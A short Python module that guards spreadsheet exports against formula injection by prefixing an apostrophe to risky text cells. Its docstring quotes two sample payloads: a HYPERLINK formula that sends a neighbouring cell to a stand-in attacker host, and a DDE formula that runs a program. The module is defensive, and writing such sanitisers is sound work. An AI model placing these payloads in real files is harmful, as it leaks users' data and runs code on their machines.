"""Text written to a spreadsheet (XLSX or CSV) never becomes a formula. Pure.

Excel, LibreOffice and Google Sheets read a cell whose text starts with `=`, `+`, `-` or `@`
(and, after a tab or a carriage return, whatever follows) as a formula: an imported name
`=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")` becomes a link that sends the
neighbouring cell away, and `=cmd|' /C calc'!A0` once ran programs through DDE (OWASP, "CSV
Injection"). Every export passes each value it writes through `spreadsheet_value`, which puts an
apostrophe before such text, as OWASP advises: the cell then shows the text, apostrophe
included, in any program, and the same text stays harmless if the sheet is saved again as CSV.
Only text is touched: numbers, dates and empty cells pass as they are (a negative number stays
a number). An XLSX writer also marks every text cell as text (see service/figures/export.py).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
T = TypeVar("T")


def spreadsheet_value(value: T) -> T | str:
    """`value`, with an apostrophe in front when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[object]) -> list[object]:
    return [spreadsheet_value(value) for value in values]
